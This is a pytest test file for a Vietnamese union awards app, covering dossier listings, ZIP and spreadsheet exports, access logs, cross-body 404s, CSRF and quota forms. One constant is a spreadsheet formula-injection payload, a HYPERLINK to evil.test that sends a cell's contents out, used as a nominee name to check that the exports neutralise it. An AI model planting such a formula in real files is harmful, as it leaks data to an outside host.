"""The office's side of the dossiers: sent dossiers by unit, their ZIPs, the call's list,
the quotas, through the real office routes with a logged-in client.

The dossiers are real rows: nominees whose versions hold one-page summaries
rendered by the app's own PDF and Word code, sendings with their Tờ trình,
danh sách and signed scan, and the office mail each sending queued through
the outbox.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import re
import zipfile
from email import message_from_bytes
from email.policy import default

import lxml.html
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from mail_fixtures import CALL, OTHER_CALL, OTHER_PLAN, PLAN, individual_data
from openpyxl import load_workbook
from sent_dossiers import add_nominee, add_version, open_dossier, send
from sqlalchemy import func, select
from test_dossier_documents import HEADERS
from test_office import PASSWORD, create_user, csrf_token, login
from web_client import WebClient, at_once, serve

from forms_app.dossiers.packaging import sending_files
from forms_app.store.database import get_session
from forms_app.store.models import (
    AccessLogEntry,
    Dossier,
    DossierSending,
    NominationStatus,
    OutboxMail,
    UnitQuota,
)

CAMPAIGN = f"/van-phong/dot/{PLAN}/{CALL}/"
QUOTAS = f"{CAMPAIGN}dinh-muc"
HYPERLINK = '=HYPERLINK("http://evil.test/?x="&A1,"Bấm vào đây")'
BINH_MINH = "CĐCS Công ty TNHH Cơ khí Bình Minh"
BENH_VIEN = "Công đoàn cơ sở Bệnh viện Quận 1"
LE_LOI = "CĐCS Trường THCS Lê Lợi"
UNSENT_AWARD = "Giấy khen (sửa sau lần gửi, chưa gửi)"
LAN_SENT_POSITION = "Phó quản đốc phân xưởng"  # her version 2, the one last sent
AWARD = "Bằng khen của Liên đoàn Lao động thành phố"
WORKPLACE = "Công ty TNHH Cơ khí Sài Gòn"
FIRST_SENT = dt.datetime(2020, 2, 8, 3, 15, tzinfo=dt.UTC)  # 10:15 ngày 08/02/2020
SECOND_SENT = dt.datetime(2020, 2, 9, 8, 30, tzinfo=dt.UTC)  # 15:30 ngày 09/02/2020


@pytest.fixture
def office_app(make_app):
    app = make_app(MAIL_BACKEND="file", OUTBOX_SEND_AFTER_COMMIT=False)
    assert create_user(app, "quan1", "ldld-quan-1").exit_code == 0
    assert create_user(app, "longbien", "ldld-long-bien").exit_code == 0
    with app.test_request_context():
        session = get_session()
        # Bình Minh: sent twice; Lan edited between the sendings; Hùng taken out after the
        # first; Minh added after the second (not sent yet).
        binh_minh = open_dossier(session, "DBM23456", BINH_MINH, "Công đoàn ngành Cơ khí")
        lan = add_nominee(binh_minh, "NLAN2345", "Nguyễn Thị Lan", 1)
        hung = add_nominee(binh_minh, "NHUNG234", "Phạm Văn Hùng", 2, category="doi-tuong-1")
        session.flush()
        send(session, binh_minh, [lan, hung], FIRST_SENT)
        hung.status = NominationStatus.REMOVED
        add_version(lan, 2, individual_data("Nguyễn Thị Lan", position=LAN_SENT_POSITION))
        evil = add_nominee(binh_minh, "NEVIL234", HYPERLINK, 2, category="doi-tuong-2")
        session.flush()
        session.refresh(lan)
        send(session, binh_minh, [lan, evil], SECOND_SENT, scan=True)
        add_nominee(binh_minh, "NMINH234", "Đỗ Văn Minh", 3)
        add_version(lan, 3, individual_data("Nguyễn Thị Lan", award=UNSENT_AWARD))
        binh_minh.changed_since_sent = True
        # Bệnh viện: sent once, one nominee.
        benh_vien = open_dossier(session, "DBV23456", BENH_VIEN, "Công đoàn ngành Y tế")
        hoa = add_nominee(benh_vien, "NHOA2345", "Trần Thị Hoa", 1, category="doi-tuong-1")
        session.flush()
        send(session, benh_vien, [hoa], FIRST_SENT)
        # Lê Lợi: opened, never sent.
        le_loi = open_dossier(session, "DLL23456", LE_LOI, "Phòng Giáo dục quận 1")
        add_nominee(le_loi, "NTAM2345", "Võ Thị Tâm", 1)
        # Another body's dossier, sent.
        long_bien = open_dossier(
            session,
            "DLB23456",
            "CĐCS Công ty Long Biên",
            "LĐLĐ quận Long Biên",
            plan=OTHER_PLAN,
            call=OTHER_CALL,
        )
        long = add_nominee(long_bien, "NLONG234", "Trần Văn Long", 1, category="ca-nhan")
        session.flush()
        send(session, long_bien, [long], FIRST_SENT)
        session.commit()
    return app


@pytest.fixture
def quan1(office_app):
    """The office of the plan's issuing body, logged in."""
    client = office_app.test_client()
    assert login(client, "quan1").status_code == 302
    return client


def parse(html: str):
    """The page's tree, each <br> read as a space."""
    tree = lxml.html.fromstring(html)
    for br in tree.iter("br"):
        br.tail = " " + (br.tail or "")
    return tree


def text(element) -> str:
    return " ".join(element.text_content().split())


def table_rows(html: str, path: str) -> list[list[str]]:
    """The text of each cell of each body row of the first table the XPath `path` finds."""
    table = parse(html).xpath(path)[0]
    return [
        [text(cell) for cell in row.findall("td")]
        for row in table.xpath("./tbody/tr[not(@class='nominees-row')]")
    ]


def db(app):
    return app.extensions["forms_sessionmaker"]()


def expected_files(app, reference: str, number: int) -> dict[str, str]:
    """name -> sha256 of what `packaging.sending_files` gives for the sending."""
    with db(app) as session:
        sending = session.scalar(
            select(DossierSending)
            .join(Dossier)
            .where(Dossier.reference == reference, DossierSending.number == number)
        )
        return {
            f.filename: hashlib.sha256(f.content).hexdigest()
            for f in sending_files(session, sending)
        }


def zip_files(data: bytes) -> dict[str, str]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return {name: hashlib.sha256(archive.read(name)).hexdigest() for name in archive.namelist()}


def log_entries(app) -> list[tuple[str, str, str | None]]:
    with db(app) as session:
        rows = session.scalars(select(AccessLogEntry).order_by(AccessLogEntry.id))
        return [(e.action, e.target, e.plan_slug) for e in rows]


# --- the call's page ---------------------------------------------------------------


def test_office_call_page_lists_sent_dossiers_by_unit(quan1):
    page = quan1.get(CAMPAIGN)

    assert page.status_code == 200
    assert table_rows(page.text, "//table[@class='dossiers']") == [
        [
            "1",
            f"{BENH_VIEN} Mã DBV23456",
            "Công đoàn ngành Y tế",
            "1",
            "10:15 ngày 08/02/2020 lần gửi 1 (bản đầu)",
            "Đã gửi Thư tới văn phòng: Đang chờ gửi",
            "Chưa đặt",
            "ZIP lần 1",
        ],
        [
            "2",
            f"{BINH_MINH} Mã DBM23456",
            "Công đoàn ngành Cơ khí",
            "2",
            "15:30 ngày 09/02/2020 lần gửi 2 (bản sửa đổi lần 1)",
            "Đã gửi Thư tới văn phòng: Đang chờ gửi Đơn vị đang sửa sau lần gửi này",
            "Chưa đặt",
            "ZIP lần 2",
        ],
    ]
    assert "2 hồ sơ đơn vị, 3 người/tập thể. Đang soạn, chưa gửi: 1 hồ sơ." in page.text
    # Never sent, taken out, added after the sending, another body's: not received.
    listed = text(parse(page.text).xpath("//table[@class='dossiers']")[0])
    for absent in (LE_LOI, "Võ Thị Tâm", "Phạm Văn Hùng", "Đỗ Văn Minh", "Trần Văn Long"):
        assert absent not in listed
    for absent in ("Võ Thị Tâm", "Phạm Văn Hùng", "Đỗ Văn Minh", "Trần Văn Long"):
        assert absent not in page.text


def test_office_call_page_expands_a_dossier_to_its_nominees(quan1):
    html = parse(quan1.get(CAMPAIGN).text)
    details = html.xpath("//tr[@class='nominees-row']//details")

    assert [text(d.find("summary")) for d in details] == [
        f"Xem 1 người/tập thể của {BENH_VIEN}",
        f"Xem 2 người/tập thể của {BINH_MINH}",
    ]
    rows = [[text(td) for td in tr.findall("td")] for tr in details[1].xpath(".//tbody/tr")]
    assert rows == [
        [
            "1",
            "Nguyễn Thị Lan Cá nhân, mã NLAN2345",
            "Đối tượng 3",
            "Bằng khen của Liên đoàn Lao động thành phố",
            "Đã gửi Đơn vị đã sửa sau lần gửi (bản 3 chưa gửi)",
            "PDF DOCX",
        ],
        [
            "2",
            f"{HYPERLINK} Cá nhân, mã NEVIL234",
            "Đối tượng 2",
            "Bằng khen của Liên đoàn Lao động thành phố",
            "Đã gửi",
            "PDF DOCX",
        ],
    ]
    links = [a.get("href") for a in details[1].xpath(".//a")]
    assert links == [
        "/van-phong/ho-so/NLAN2345",
        "/van-phong/ho-so/NLAN2345/ban-2/pdf",
        "/van-phong/ho-so/NLAN2345/ban-2/docx",
        "/van-phong/ho-so/NEVIL234",
        "/van-phong/ho-so/NEVIL234/ban-1/pdf",
        "/van-phong/ho-so/NEVIL234/ban-1/docx",
    ]


def test_office_call_page_filters_keep_working(quan1):
    def units(query: dict) -> list[str]:
        page = quan1.get(CAMPAIGN, query_string=query)
        assert page.status_code == 200
        rows = (
            table_rows(page.text, "//table[@class='dossiers']")
            if "table-scroll" in page.text
            else []
        )
        return [row[1] for row in rows if row]

    assert units({"cdcs": "cđcs công ty tnhh cơ khí bình minh"}) == [f"{BINH_MINH} Mã DBM23456"]
    assert units({"doi_tuong": "doi-tuong-1"}) == [f"{BENH_VIEN} Mã DBV23456"]
    assert units({"tu_ngay": "2020-02-09"}) == [f"{BINH_MINH} Mã DBM23456"]
    assert units({"den_ngay": "2020-02-08"}) == [f"{BENH_VIEN} Mã DBV23456"]
    assert units({"trang_thai": "withdrawn"}) == []
    # Statuses that are not received are not on the form, and ignored if typed.
    assert len(units({"trang_thai": "pending"})) == 2
    by_category = quan1.get(CAMPAIGN, query_string={"doi_tuong": "doi-tuong-2"})
    assert table_rows(by_category.text, "//table[@class='dossiers']")[0][3] == "1 trong 2"
    assert "1 hồ sơ đơn vị, 1 người/tập thể." in by_category.text


def test_office_list_of_calls_counts_sent_dossiers(quan1):
    html = parse(quan1.get("/van-phong/").text)
    rows = {
        " ".join(tr.findall("td")[1].text_content().split()): [
            td.text_content() for td in tr.findall("td")[3:]
        ]
        for tr in html.xpath("//tbody/tr")
    }

    assert rows["ĐỐI TƯỢNG VÀ TIÊU CHÍ KHEN CẤP THÀNH PHỐ"] == ["2", "3"]


# --- one dossier ---------------------------------------------------------------------


def test_office_dossier_page_shows_nominees_sendings_and_mails(quan1):
    page = quan1.get("/van-phong/ho-so-don-vi/dbm23456")

    assert page.status_code == 200
    html = parse(page.text)
    assert [text(h) for h in html.xpath("//section[@class='sending']/h3")] == [
        "Lần gửi 2 (bản sửa đổi lần 1): 15:30 ngày 09/02/2020",
        "Lần gửi 1 (bản đầu): 10:15 ngày 08/02/2020",
    ]
    mails = [
        [text(td) for td in tr.findall("td")][:4]
        for tr in html.xpath("//section[@class='sending']//tbody/tr")
    ]
    assert mails == [
        [
            "Hồ sơ gửi văn phòng",
            "vanphong@ldld-quan1.test",
            f"Hồ sơ {BINH_MINH}: 2 người (lần 2) Hồ sơ DBM23456",
            "Đang chờ gửi lần tới: 15:30 ngày 09/02/2020",
        ],
        [
            "Hồ sơ gửi văn phòng",
            "vanphong@ldld-quan1.test",
            f"Hồ sơ {BINH_MINH}: 2 người (lần 1) Hồ sơ DBM23456",
            "Đang chờ gửi lần tới: 10:15 ngày 08/02/2020",
        ],
    ]
    assert [
        row[1]
        for row in table_rows(
            page.text, "//h2[starts-with(., 'Người/tập thể')]/following::table[1]"
        )
    ] == [
        "Nguyễn Thị Lan Cá nhân, mã NLAN2345",
        f"{HYPERLINK} Cá nhân, mã NEVIL234",
    ]
    assert "Đơn vị đã sửa hồ sơ sau lần gửi này và chưa gửi lại." in page.text


def test_office_outbox_lists_dossier_mails_and_resends_only_its_own(office_app, quan1):
    page = quan1.get("/van-phong/thu-gui")
    with db(office_app) as session:
        ids = dict(
            session.execute(
                select(Dossier.reference, OutboxMail.id)
                .join(Dossier, OutboxMail.dossier_id == Dossier.id)
                .where(OutboxMail.version_number == 1)
            ).all()
        )
    token = csrf_token(page.text)

    links = parse(page.text).xpath("//a[starts-with(@href, '/van-phong/ho-so-don-vi/')]/@href")
    assert sorted(links) == [
        "/van-phong/ho-so-don-vi/DBM23456",
        "/van-phong/ho-so-don-vi/DBM23456",
        "/van-phong/ho-so-don-vi/DBV23456",
    ]
    own = quan1.post(f"/van-phong/thu-gui/{ids['DBV23456']}/gui-lai", data={"csrf_token": token})
    other = quan1.post(f"/van-phong/thu-gui/{ids['DLB23456']}/gui-lai", data={"csrf_token": token})
    assert (own.status_code, other.status_code) == (302, 404)


# --- downloads -----------------------------------------------------------------------


@pytest.mark.parametrize("number", [1, 2])
def test_office_dossier_zip_holds_exactly_the_files_of_the_sending(office_app, quan1, number):
    response = quan1.get(f"/van-phong/ho-so-don-vi/DBM23456/lan-{number}.zip")

    assert response.status_code == 200
    assert response.mimetype == "application/zip"
    folder = f"CDCS-Cong-ty-TNHH-Co-khi-Binh-Minh-DBM23456-lan-{number}"
    assert response.headers["Content-Disposition"] == f"attachment; filename={folder}.zip"
    expected = expected_files(office_app, "DBM23456", number)
    assert zip_files(response.data) == {f"{folder}/{n}": h for n, h in expected.items()}
    names = sorted(expected)
    if number == 2:  # the signed scan, both summaries of each nominee, the danh sách
        assert names == [
            "01-tom-tat-thanh-tich-NLAN2345-v2.docx",
            "01-tom-tat-thanh-tich-NLAN2345-v2.pdf",
            "02-tom-tat-thanh-tich-NEVIL234-v1.docx",
            "02-tom-tat-thanh-tich-NEVIL234-v1.pdf",
            "Danh-sach-trich-ngang-DBM23456.xlsx",
            "To-trinh-DBM23456-lan-2.docx",
            "To-trinh-DBM23456-lan-2.pdf",
            "To-trinh-da-ky-DBM23456.pdf",
        ]
    # Who downloaded it, and when, is in the ZIP's comment and in the access log.
    comment = zipfile.ZipFile(io.BytesIO(response.data)).comment.decode()
    assert comment == "Xuất bởi: Hoàng Thị Hà (quan1), 09:00 ngày 10/02/2020"
    assert log_entries(office_app)[-1] == (
        "tai-ho-so-don-vi",
        f"hồ sơ đơn vị DBM23456 lần gửi {number}",
        PLAN,
    )


def test_office_dossier_zip_matches_the_office_mail(office_app, quan1):
    """The ZIP holds the same files, names and bytes, as the mail the office received."""
    response = quan1.get("/van-phong/ho-so-don-vi/DBM23456/lan-2.zip")
    with db(office_app) as session:
        raw = session.scalar(select(OutboxMail.raw).where(OutboxMail.subject.contains("(lần 2)")))
    mail = message_from_bytes(raw, policy=default)
    attached = {
        part.get_filename(): hashlib.sha256(part.get_content()).hexdigest()
        for part in mail.iter_attachments()
    }
    folder = "CDCS-Cong-ty-TNHH-Co-khi-Binh-Minh-DBM23456-lan-2"

    assert len(attached) == 8
    assert zip_files(response.data) == {f"{folder}/{n}": h for n, h in attached.items()}


def test_office_call_zip_holds_every_sent_dossier_as_last_sent(office_app, quan1):
    response = quan1.get(f"{CAMPAIGN}ho-so.zip")

    assert response.status_code == 200
    files = zip_files(response.data)
    expected = {
        f"Cong-doan-co-so-Benh-vien-Quan-1-DBV23456-lan-1/{n}": h
        for n, h in expected_files(office_app, "DBV23456", 1).items()
    } | {
        f"CDCS-Cong-ty-TNHH-Co-khi-Binh-Minh-DBM23456-lan-2/{n}": h
        for n, h in expected_files(office_app, "DBM23456", 2).items()
    }
    lists = {"danh-sach-trich-ngang.xlsx", "danh-sach-trich-ngang.csv"}
    assert set(files) == set(expected) | lists
    assert {k: v for k, v in files.items() if k not in lists} == expected
    assert log_entries(office_app)[-1] == ("xuat-zip", f"{PLAN}/{CALL}", PLAN)


ROSTER_HEADER = [*HEADERS, "Công đoàn cơ sở", "Mã hồ sơ"]  # a list of several dossiers


def roster_row(number: int, name: str, position: str, category: str) -> list:
    # Born 1985, a woman, at WORKPLACE, proposed for AWARD, no initiatives, no note.
    return [number, name, 1985, "Nữ", position, WORKPLACE, category, AWARD, 0, None, None]


# Each nominee as the dossier's latest sending held it (Lan: her version 2, not 3).
ROSTER_ROWS = [
    [*roster_row(1, "Trần Thị Hoa", "Tổ trưởng tổ sản xuất", "Đối tượng 1"), BENH_VIEN, "DBV23456"],
    [*roster_row(2, "Nguyễn Thị Lan", LAN_SENT_POSITION, "Đối tượng 3"), BINH_MINH, "DBM23456"],
    [*roster_row(3, HYPERLINK, "Tổ trưởng tổ sản xuất", "Đối tượng 2"), BINH_MINH, "DBM23456"],
]


def roster_table(data: bytes) -> list[list]:
    """The rows from the header row of the danh sách on."""
    sheet = load_workbook(io.BytesIO(data)).active
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    return rows[next(i for i, row in enumerate(rows) if row[0] == "STT") :]


def test_office_call_list_xlsx_has_every_dossier_as_last_sent(quan1):
    response = quan1.get(f"{CAMPAIGN}danh-sach.xlsx")

    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == (
        f"attachment; filename=Danh-sach-trich-ngang-{PLAN}-{CALL}.xlsx"
    )
    assert roster_table(response.data) == [ROSTER_HEADER, *ROSTER_ROWS]
    sheet = load_workbook(io.BytesIO(response.data)).active
    evil = next(c for c in sheet["B"] if c.value == HYPERLINK)
    assert (evil.data_type, evil.quotePrefix) == ("s", True)
    assert sheet["A4"].value == "2 hồ sơ, 3 tập thể, cá nhân"


def test_office_call_list_follows_the_filters(quan1):
    by_category = quan1.get(f"{CAMPAIGN}danh-sach.xlsx", query_string={"doi_tuong": "doi-tuong-3"})
    by_unit = quan1.get(f"{CAMPAIGN}danh-sach.csv", query_string={"cdcs": BENH_VIEN})

    assert [row[1] for row in roster_table(by_category.data)[1:]] == ["Nguyễn Thị Lan"]
    rows = list(csv.reader(io.StringIO(by_unit.data.decode("utf-8-sig"))))
    assert [row[1] for row in rows[1:-1]] == ["Trần Thị Hoa"]


def test_office_call_list_csv_has_every_dossier_neutralised(quan1):
    response = quan1.get(f"{CAMPAIGN}danh-sach.csv")

    assert response.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    expected = [["" if v is None else str(v) for v in row] for row in [ROSTER_HEADER, *ROSTER_ROWS]]
    expected[3][1] = "'" + HYPERLINK
    assert rows[:-1] == expected
    assert rows[-1] == ["Xuất bởi: Hoàng Thị Hà (quan1), 09:00 ngày 10/02/2020"]
    assert UNSENT_AWARD not in response.data.decode("utf-8-sig")


def test_office_every_dossier_look_is_logged(office_app, quan1):
    before = len(log_entries(office_app))
    for path in (
        CAMPAIGN,
        "/van-phong/ho-so-don-vi/DBM23456",
        "/van-phong/ho-so-don-vi/DBM23456/lan-1.zip",
        f"{CAMPAIGN}danh-sach.xlsx",
        f"{CAMPAIGN}danh-sach.csv",
        f"{CAMPAIGN}ho-so.zip",
    ):
        assert quan1.get(path).status_code == 200, path

    assert log_entries(office_app)[before:] == [
        ("xem-danh-sach", f"{PLAN}/{CALL}", PLAN),
        ("xem-ho-so-don-vi", "hồ sơ đơn vị DBM23456", PLAN),
        ("tai-ho-so-don-vi", "hồ sơ đơn vị DBM23456 lần gửi 1", PLAN),
        ("xuat-xlsx", f"{PLAN}/{CALL}", PLAN),
        ("xuat-csv", f"{PLAN}/{CALL}", PLAN),
        ("xuat-zip", f"{PLAN}/{CALL}", PLAN),
    ]


@pytest.mark.parametrize(
    "path",
    [
        "/van-phong/ho-so-don-vi/DLB23456",
        "/van-phong/ho-so-don-vi/DLB23456/lan-1.zip",
        "/van-phong/ho-so-don-vi/DLL23456",  # never sent: not received
        "/van-phong/ho-so-don-vi/DLL23456/lan-1.zip",
        "/van-phong/ho-so-don-vi/DBM23456/lan-3.zip",
        "/van-phong/ho-so-don-vi/DBM23456/lan-99999999999999999999.zip",
        "/van-phong/ho-so-don-vi/D%00BM",
        "/van-phong/ho-so/NTAM2345",  # in a dossier never sent
        "/van-phong/ho-so/NMINH234",  # added after the sending
        "/van-phong/ho-so/NMINH234/ban-1/pdf",
    ],
)
def test_office_what_was_not_received_or_is_anothers_answers_404(quan1, path):
    assert quan1.get(path).status_code == 404


def test_office_another_body_sees_none_of_these_dossiers(office_app):
    client = office_app.test_client()
    login(client, "longbien")

    assert client.get(CAMPAIGN).status_code == 404
    assert client.get("/van-phong/ho-so-don-vi/DBM23456").status_code == 404
    assert client.get("/van-phong/ho-so-don-vi/DBM23456/lan-1.zip").status_code == 404
    assert client.get(f"{CAMPAIGN}ho-so.zip").status_code == 404
    own = client.get(f"/van-phong/dot/{OTHER_PLAN}/{OTHER_CALL}/")
    assert "CĐCS Công ty Long Biên" in own.text
    assert BINH_MINH not in own.text


# --- quotas --------------------------------------------------------------------------


def quota_rows(app) -> list[tuple[str, str, int, str]]:
    with db(app) as session:
        return [
            (q.union_key, q.union_name, q.max_nominees, q.set_by)
            for q in session.scalars(select(UnitQuota).order_by(UnitQuota.union_key))
        ]


def post_quota(client, **fields):
    token = csrf_token(client.get(CAMPAIGN).text)
    return client.post(QUOTAS, data={"csrf_token": token, **fields})


def test_office_sets_changes_and_removes_quotas(office_app, quan1):
    one = post_quota(quan1, union="cđcs công ty tnhh cơ khí  BÌNH MINH", max_nominees="1")
    every = post_quota(quan1, every_unit="y", max_nominees="5")
    again = post_quota(quan1, union=BINH_MINH, max_nominees="3")

    assert (one.status_code, one.location) == (303, f"{CAMPAIGN}#dinh-muc")
    assert every.status_code == again.status_code == 303
    assert quota_rows(office_app) == [
        ("", "", 5, "quan1"),
        ("cdcs cong ty tnhh co khi binh minh", BINH_MINH, 3, "quan1"),
    ]
    page = quan1.get(CAMPAIGN)
    assert f"Đã đặt định mức cho “{BINH_MINH}”: tối đa 3 người/tập thể." in page.text
    assert table_rows(page.text, "//table[@class='quotas']") == [
        ["Mọi đơn vị (định mức chung)", "5", "quan1", "09:00 ngày 10/02/2020", "Đổi", "Bỏ"],
        [BINH_MINH, "3", "quan1", "09:00 ngày 10/02/2020", "Đổi", "Bỏ"],
    ]
    # The dossiers show the quota that applies to them.
    assert [row[6] for row in table_rows(page.text, "//table[@class='dossiers']")] == [
        "Tối đa 5",
        "Tối đa 3",
    ]

    with db(office_app) as session:
        every_id = session.scalar(select(UnitQuota.id).where(UnitQuota.union_key == ""))
    token = csrf_token(page.text)
    removed = quan1.post(f"{QUOTAS}/{every_id}/bo", data={"csrf_token": token})
    assert removed.status_code == 303
    assert quota_rows(office_app) == [("cdcs cong ty tnhh co khi binh minh", BINH_MINH, 3, "quan1")]
    assert "Đã bỏ định mức của mỗi đơn vị." in quan1.get(CAMPAIGN).text


def test_office_quota_over_which_a_dossier_is_shown_as_exceeding(quan1):
    post_quota(quan1, union=BINH_MINH, max_nominees="1")

    page = quan1.get("/van-phong/ho-so-don-vi/DBM23456").text

    assert (
        f"Văn phòng công đoàn đã phân bổ cho “{BINH_MINH}” tối đa 1 người/tập thể trong đợt "
        "này; hồ sơ đang có 2. Hãy bỏ bớt 1 trước khi gửi."
    ) in page


def test_office_quota_for_a_unit_not_yet_seen_is_kept_with_a_warning(office_app, quan1):
    response = post_quota(quan1, union="CĐCS Công ty Chưa Mở", max_nominees="2")

    assert response.status_code == 303
    assert (
        "Đã đặt định mức cho “CĐCS Công ty Chưa Mở”: tối đa 2 người/tập thể. Chưa có đơn vị nào "
        "tên này mở hồ sơ trong đợt; hãy kiểm tra lại tên."
    ) in quan1.get(CAMPAIGN).text


def test_office_quota_form_offers_the_units_that_opened_dossiers(quan1):
    html = parse(quan1.get(CAMPAIGN).text)

    assert [o.get("value") for o in html.xpath("//datalist[@id='don-vi-da-mo']/option")] == [
        BENH_VIEN,
        BINH_MINH,
        LE_LOI,
    ]
    assert (
        html.xpath("//form[@class='quota-form']//input[@name='union']")[0].get("list")
        == "don-vi-da-mo"
    )


NUMBER_ERROR = "Số người/tập thể tối đa cần là một số nguyên từ 1 đến 999; nhận được “{}”."


@pytest.mark.parametrize(
    ("fields", "errors"),
    [
        ({"union": BINH_MINH, "max_nominees": "0"}, [NUMBER_ERROR.format("0")]),
        ({"union": BINH_MINH, "max_nominees": "-3"}, [NUMBER_ERROR.format("-3")]),
        ({"union": BINH_MINH, "max_nominees": "10000"}, [NUMBER_ERROR.format("10000")]),
        ({"union": BINH_MINH, "max_nominees": "ba người"}, [NUMBER_ERROR.format("ba người")]),
        ({"union": BINH_MINH, "max_nominees": "2.5"}, [NUMBER_ERROR.format("2.5")]),
        ({"union": BINH_MINH, "max_nominees": ""}, ["Hãy nhập số người/tập thể tối đa."]),
        (
            {"union": " \u200b ", "max_nominees": "2"},
            ["Hãy nhập tên công đoàn cơ sở, hoặc chọn định mức chung cho mọi đơn vị."],
        ),
        ({"union": "Đ" * 301, "max_nominees": "2"}, ["Tên công đoàn cơ sở tối đa 300 ký tự."]),
    ],
)
def test_office_quota_bad_input_is_refused_in_vietnamese(office_app, quan1, fields, errors):
    response = post_quota(quan1, **fields)

    assert response.status_code == 400
    assert re.findall(r'<span class="error" id="[^"]+">(.*?)</span>', response.text) == errors
    html = parse(response.text)
    form = html.xpath("//form[@class='quota-form']")[0]
    assert (
        form.xpath(".//input[@name='max_nominees']")[0].get("value", "")
        == fields["max_nominees"].strip()
    )
    assert quota_rows(office_app) == []


def test_office_quota_needs_csrf_and_a_member_of_the_issuing_body(office_app, quan1):
    no_token = quan1.post(QUOTAS, data={"union": BINH_MINH, "max_nominees": "2"})
    other = office_app.test_client()
    login(other, "longbien")
    token = csrf_token(other.get("/van-phong/").text)
    foreign = other.post(
        QUOTAS, data={"csrf_token": token, "union": BINH_MINH, "max_nominees": "2"}
    )

    assert no_token.status_code == 400
    assert "Thiếu mã bảo mật của biểu mẫu; hãy tải lại trang." in no_token.text
    assert foreign.status_code == 404
    assert quota_rows(office_app) == []
    # Nor can another body remove this body's quota, or anyone without the token.
    post_quota(quan1, union=BINH_MINH, max_nominees="2")
    with db(office_app) as session:
        quota_id = session.scalar(select(UnitQuota.id))
    assert other.post(f"{QUOTAS}/{quota_id}/bo", data={"csrf_token": token}).status_code == 404
    assert quan1.post(f"{QUOTAS}/{quota_id}/bo").status_code == 400
    other_call = f"/van-phong/dot/{PLAN}/cap-quan/dinh-muc/{quota_id}/bo"
    page_token = csrf_token(quan1.get(CAMPAIGN).text)
    assert quan1.post(other_call, data={"csrf_token": page_token}).status_code == 404
    assert len(quota_rows(office_app)) == 1


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    union=st.text(max_size=320),
    number=st.one_of(st.integers(-(10**30), 10**30).map(str), st.text(max_size=20)),
    every=st.booleans(),
)
def test_office_quota_form_never_answers_5xx(office_app, quan1, union, number, every):
    fields = {"union": union, "max_nominees": number} | ({"every_unit": "y"} if every else {})
    token = csrf_token(quan1.get(f"/van-phong/dot/{PLAN}/cap-quan/").text)

    response = quan1.post(
        f"/van-phong/dot/{PLAN}/cap-quan/dinh-muc", data={"csrf_token": token, **fields}
    )

    assert response.status_code in (303, 400)
    with db(office_app) as session:
        count = session.scalar(select(func.count()).select_from(UnitQuota))
        assert all(1 <= q.max_nominees <= 999 for q in session.scalars(select(UnitQuota)))
    assert count >= (1 if response.status_code == 303 else 0)


@pytest.fixture(params=["sqlite", "postgres"])
def database_url(request, tmp_path):
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path / 'forms.sqlite3'}"
    return request.getfixturevalue("postgres_url")


def test_office_quota_set_at_once_by_many_is_one_row(make_app, database_url, tmp_path):
    """Clicks overlapping in the server and the database store one quota, never a 500."""
    app = make_app(DATABASE_URL=database_url, MAIL_BACKEND="file", OUTBOX_SEND_AFTER_COMMIT=False)
    assert create_user(app, "quan1", "ldld-quan-1").exit_code == 0
    spellings = [BINH_MINH, BINH_MINH.upper(), "cdcs cong ty tnhh co khi binh minh"]
    try:
        with serve(app) as base:
            office = WebClient(base)
            page = office.get("/van-phong/dang-nhap")
            fields = {"username": "quan1", "password": PASSWORD, "csrf_token": page.csrf_token()}
            assert office.post("/van-phong/dang-nhap", fields).status == 302
            token = office.get(CAMPAIGN).csrf_token()
            answers = at_once(
                9,
                lambda i: (
                    office.post(
                        QUOTAS,
                        {
                            "csrf_token": token,
                            "union": spellings[i % 3],
                            "max_nominees": str(i + 1),
                        },
                    ).status
                ),
            )
        assert answers == [303] * 9
        with app.extensions["forms_sessionmaker"]() as session:
            rows = session.scalars(select(UnitQuota)).all()
            assert [(q.union_key, q.set_by) for q in rows] == [
                ("cdcs cong ty tnhh co khi binh minh", "quan1")
            ]
            assert 1 <= rows[0].max_nominees <= 9
    finally:
        app.extensions["forms_engine"].dispose()
